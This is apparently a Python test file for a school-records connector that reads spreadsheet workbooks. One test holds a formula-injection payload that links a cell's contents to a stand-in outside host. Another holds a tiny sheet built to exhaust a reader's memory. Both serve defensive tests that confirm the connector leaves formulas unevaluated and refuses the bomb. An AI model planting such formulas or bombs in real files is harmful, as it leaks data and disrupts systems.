"""A workbook is read by a process of its own: whatever it holds ends that process and not the connector."""

from __future__ import annotations

import resource
from datetime import datetime

from hub.connectors.files import Checked, check_file
from tests.examples.files import CONNECTOR, concern_row, export, school_mapping
from tests.examples.workbooks import Cell, workbook, workbook_of


def table(*rows: str) -> list[list[Cell]]:
    """Return heading and rows as the cells of a sheet."""
    return [list(line.split(";")) for line in export(*rows).decode("windows-1252").strip().splitlines()]


def checked(raw: bytes) -> Checked:
    """Read a file in hand with the school's mapping."""
    return check_file(raw, school_mapping(), CONNECTOR)


def test_a_workbook_reads_as_the_csv_of_it_would() -> None:
    """The events are the same ones, ids included: it does not matter how the register exports."""
    rows = [concern_row(1), concern_row(2)]
    by_csv, by_book = checked(export(*rows)), checked(workbook(table(*rows)))
    assert by_book.report.rows == ()
    assert [one.data for one in by_book.events] == [one.data for one in by_csv.events]
    assert [one.envelope for one in by_book.events] == [one.envelope for one in by_csv.events]


def test_dates_and_numbers_are_what_the_mapping_says() -> None:
    """A time that the spreadsheet holds as a number of days, a local id it holds as a number."""
    rows = table(concern_row(1))
    rows[1][1], rows[1][3] = datetime(2026, 11, 23, 9, 5), 17  # noqa: DTZ001 - as a spreadsheet has it
    (event,) = checked(workbook(rows)).events
    assert event.envelope.time == "2026-11-23T07:05:00Z"
    assert event.data["person"] == {**person(), "local_id": "17"}


def person() -> dict[str, object]:
    """Return how the first row names its person, without the local id."""
    (event,) = checked(export(concern_row(1))).events
    named = event.data["person"]
    assert isinstance(named, dict)
    return {name: value for name, value in named.items() if name != "local_id"}


def test_a_formula_is_text_and_never_worked_out() -> None:
    """Whatever begins with an equals sign stays what was written."""
    rows = table(concern_row(1))
    rows[1][-1] = evil = '=HYPERLINK("http://example.invalid/?x="&A1)'
    assert [one.data["text"] for one in checked(workbook(rows)).events] == [evil]


def test_a_bad_cell_is_told_with_its_row() -> None:
    """As in a CSV file, without the value."""
    report = checked(workbook(table(concern_row(1), concern_row(2, taso="PLANTED")))).report
    assert [(one.row, one.field) for one in report.rows] == [(3, "level")]
    assert "PLANTED" not in report.text("sv")


def test_a_sheet_that_is_not_there_is_told() -> None:
    """With its name, which is the mapping's own word."""
    mapping = school_mapping()
    named = mapping.model_copy(update={"file": mapping.file.model_copy(update={"sheet": "Huolet"})})
    report = check_file(workbook([["a"]]), named, CONNECTOR).report
    assert [(one.trouble, one.word) for one in report.file] == [("no_sheet", "Huolet")]


TWO_CORNERS = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="CV1048576"><v>1</v></c></row>'


def test_a_sheet_that_would_fill_the_memory_is_refused() -> None:
    """Two cells in two corners, a few hundred bytes: a reader that lays the sheet out would take three gigabytes."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    report = checked(workbook_of(TWO_CORNERS)).report
    assert [(one.trouble, one.word) for one in report.file] == [("not_a_table", "bomb")]
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 32 * 1024
